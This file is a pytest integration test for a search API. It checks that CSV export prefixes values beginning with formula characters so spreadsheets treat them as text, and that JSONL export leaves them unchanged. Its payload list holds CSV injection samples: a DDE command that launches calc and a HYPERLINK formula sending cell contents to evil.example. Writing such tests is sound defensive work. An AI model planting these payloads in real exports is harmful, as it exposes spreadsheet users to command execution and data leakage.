"""CSV export neutralises spreadsheet formulas (issue 10 #5), read back from a real export."""

from __future__ import annotations

import csv
import io

import pytest
from elasticsearch import Elasticsearch, helpers
from fastapi.testclient import TestClient

from search_api.app import create_app

pytestmark = pytest.mark.integration

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.fixture(scope="module")
def client(es: Elasticsearch, index_alias: str, module_settings):
    docs = [{"id": f"f{i}", "title": f, "body": "formula probe", "source": f, "language": "en",
             "entities": {"person": [f, "Plain Name"]}, "published_at": "1987-03-02"} for i, f in enumerate(FORMULAS)]
    docs.append({"id": "plain", "title": "Oil = money", "body": "formula probe", "source": "Reuters", "language": "en"})
    helpers.bulk(es, ({"_index": index_alias, "_id": d["id"], "_source": d} for d in docs), refresh=True)
    with TestClient(create_app(module_settings)) as c:
        yield c


def test_formula_cells_are_quoted_text(client):
    r = client.get("/api/v1/export", params={"format": "csv", "q": "formula"})
    assert r.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert len(rows) == len(FORMULAS) + 1
    for i, formula in enumerate(FORMULAS):
        row = rows[f"f{i}"]
        assert row["title"] == "'" + formula and row["source"] == "'" + formula
        assert row["person"] == "'" + formula + "; Plain Name"
    assert rows["plain"]["title"] == "Oil = money" and rows["plain"]["source"] == "Reuters"
    # every cell is quoted, so no separator or line break inside a value can shift the columns
    first = r.text.splitlines()[0]
    assert first.startswith('"id","url","title"')


def test_jsonl_keeps_values_unchanged(client):
    lines = client.get("/api/v1/export", params={"format": "jsonl", "q": "formula"}).text.splitlines()
    import json

    titles = {json.loads(line)["title"] for line in lines}
    assert set(FORMULAS) <= titles
